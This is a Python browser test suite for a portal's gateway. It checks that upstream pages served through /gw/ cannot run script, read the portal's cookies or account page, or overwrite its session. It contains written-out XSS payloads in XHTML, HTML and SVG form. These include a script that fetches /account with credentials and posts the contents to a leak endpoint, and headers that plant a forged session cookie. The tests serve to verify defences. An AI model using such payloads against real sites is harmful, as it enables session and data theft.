"""An upstream's page, opened through the gateway by a signed-in user, in a real browser
(Debian's Chromium): its script does not run, cannot read the portal's pages or cookies, and
its cookies do not replace the portal's — on the portal's origin, and on a gateway origin of
its own (DPGHUB_GATEWAY_ORIGIN).

The attack it stands for: a link to /gw/… carrying the attacker's own key, sent to a signed-in
portal user; the upstream (the attacker's service) answers a page whose script reads /account
with the victim's session and sends it back through the gateway."""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright import sync_api

from tests.e2e.conftest import (
    CHROMIUM_ARGS,
    DPGHUB,
    OPERATOR_PASSWORD,
    START_TIMEOUT,
    WAIT_MS,
    _free_port,
    _healthy,
)
from tests.e2e.conftest import chromium as _chromium
from tests.support.loopback import LOOPBACK
from tests.support.server import provision_gateway
from tests.support.upstream import Upstream, serve

pytestmark = pytest.mark.browser

OPERATOR = "admin@dpghub.kr"
# sets the title when it runs, then reads /account with whatever cookies the browser sends and
# posts what it read back through the gateway, to the upstream
STEAL = ("document.title = 'ran'; fetch('/account', {credentials: 'include'})"
         ".then(r => r.text()).then(t => fetch('/gw/kasi/spcde/leak?serviceKey=KEY', "
         "{method: 'POST', body: t}))")
XHTML = ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>'
         '<title>upstream</title><script>' + STEAL + '</script></head>'
         '<body><p>upstream</p></body></html>')
HTML = ("<!doctype html><html><head><title>upstream</title><script>" + STEAL +
        "</script></head><body><img src=x onerror=\"document.title='ran'\">upstream</body>"
        "</html>")
SVG = ('<svg xmlns="http://www.w3.org/2000/svg" onload="' + STEAL.replace('"', "'") +
       '"><title>upstream</title><script>document.title = "ran"</script></svg>')
PROBE = """async () => {
    let cookies;
    try { cookies = document.cookie; } catch (e) { cookies = 'blocked:' + e.name; }
    let account;
    try {
        const answer = await fetch('/account', {credentials: 'include'});
        account = (await answer.text()).includes('OPERATOR') ? 'read' : 'not-read';
    } catch (e) { account = 'blocked'; }
    return {origin: window.origin, cookies: cookies, account: account};
}""".replace("OPERATOR", OPERATOR)


@dataclass
class Served:
    portal: str
    gateway: str              # where /gw/… answers: the portal, or the gateway's own origin
    key: str
    upstream: Upstream


@contextlib.contextmanager
def hub(tmp_path: Path, *, own_origin: bool) -> Iterator[Served]:
    home = tmp_path / "home"
    port = _free_port()
    portal = f"http://127.0.0.1:{port}"
    # *.localhost is loopback to Chromium by itself: another origin, no DNS needed
    gateway = f"http://gw.localhost:{port}" if own_origin else portal
    env = {k: v for k, v in os.environ.items() if not k.startswith("DPGHUB_")}
    env.update(DPGHUB_HOME=str(home), DPGHUB_GATEWAY_ALLOWED_NETWORKS=LOOPBACK,
               DPGHUB_BASE_URL=portal)
    if own_origin:
        env["DPGHUB_GATEWAY_ORIGIN"] = gateway
    init = subprocess.run([str(DPGHUB), "init", "--admin-password", OPERATOR_PASSWORD],
                          env=env, capture_output=True, text=True, timeout=60)
    assert init.returncode == 0, init.stdout + init.stderr
    with serve() as (upstream_url, upstream):
        key = provision_gateway(home, upstream_url)
        for name, media, body in (("page.xml", b"application/xml", XHTML),
                                  ("page.html", b"text/html; charset=utf-8", HTML),
                                  ("page.svg", b"image/svg+xml", SVG)):
            upstream.scripted[name] = (200, [
                (b"content-type", media),
                (b"set-cookie", b"dpghub_session=attacker; Path=/; HttpOnly"),
                (b"set-cookie", b"planted=1; Path=/")], body.replace("KEY", key).encode())
        log_path = tmp_path / "serve.log"
        with log_path.open("wb") as log:
            process = subprocess.Popen(
                [str(DPGHUB), "serve", "--host", "127.0.0.1", "--port", str(port)],
                env=env, stdout=log, stderr=subprocess.STDOUT)
            try:
                deadline = time.monotonic() + START_TIMEOUT
                while not _healthy(portal):
                    if process.poll() is not None or time.monotonic() > deadline:
                        raise RuntimeError("the hub did not start:\n"
                                           + log_path.read_text(errors="replace"))
                    time.sleep(0.1)  # poll interval while the process boots
                yield Served(portal, gateway, key, upstream)
            finally:
                process.terminate()
                process.wait(timeout=10)


def attack(served: Served) -> None:
    executable = _chromium()
    expect = sync_api.expect
    expect.set_options(timeout=WAIT_MS)
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(executable), headless=True,
                                             args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(base_url=served.portal, locale="en-US",
                                          accept_downloads=True)
            context.set_default_timeout(WAIT_MS)
            page = context.new_page()
            page.goto("/signin")
            page.fill("#email", OPERATOR)
            page.fill("#password", OPERATOR_PASSWORD)
            page.locator("main form button[type=submit]").click()
            expect(page).not_to_have_url(re.compile("/signin"))
            session = _session(context)
            assert session and session != "attacker"

            # the link the victim follows: the portal's /gw/… address (with a gateway origin
            # of its own, the portal sends the browser there)
            shown = page.goto(f"{served.portal}/gw/kasi/spcde/page.xml?serviceKey={served.key}")
            assert shown is not None and shown.status == 200
            assert page.url.startswith(f"{served.gateway}/gw/")
            expect(page.locator("p")).to_have_text("upstream")    # the document is shown…
            assert page.title() == "upstream"                    # …and its script never ran
            probe = page.evaluate(PROBE)                         # what any script there gets
            assert probe["origin"] == "null"                     # an opaque origin of its own
            assert probe["cookies"].startswith("blocked:")
            assert probe["account"] == "blocked"

            for name in ("page.html", "page.svg"):
                url = f"{served.gateway}/gw/kasi/spcde/{name}?serviceKey={served.key}"
                if served.gateway == served.portal:     # on the portal's origin: a download
                    page.goto(served.portal + "/")
                    with page.expect_download() as download, \
                            contextlib.suppress(sync_api.Error):
                        page.goto(url)
                    assert download.value.url == url
                    assert page.url == served.portal + "/"
                else:                                   # on its own: shown, sandboxed
                    page.goto(url)
                    assert page.title() == "upstream", name
                    assert page.evaluate(PROBE)["origin"] == "null"

            # the portal still knows the user; nothing of the upstream's reached it
            page.goto("/account")
            expect(page).to_have_url(f"{served.portal}/account")     # not sent to sign in
            expect(page.locator("main")).to_contain_text(OPERATOR)
            assert _session(context) == session
            assert not [c for c in context.cookies() if c["name"] == "planted"]
            assert not [seen for seen in served.upstream.seen if seen["path"].endswith("/leak")]
            context.close()
        finally:
            browser.close()


def _session(context) -> str | None:  # type: ignore[no-untyped-def]
    found = [c["value"] for c in context.cookies() if c["name"] == "dpghub_session"]
    return found[0] if found else None


def test_an_upstream_page_cannot_act_on_the_portals_origin(tmp_path: Path) -> None:
    with hub(tmp_path, own_origin=False) as served:
        attack(served)


def test_an_upstream_page_on_the_gateways_own_origin_is_sandboxed_too(tmp_path: Path) -> None:
    with hub(tmp_path, own_origin=True) as served:
        attack(served)
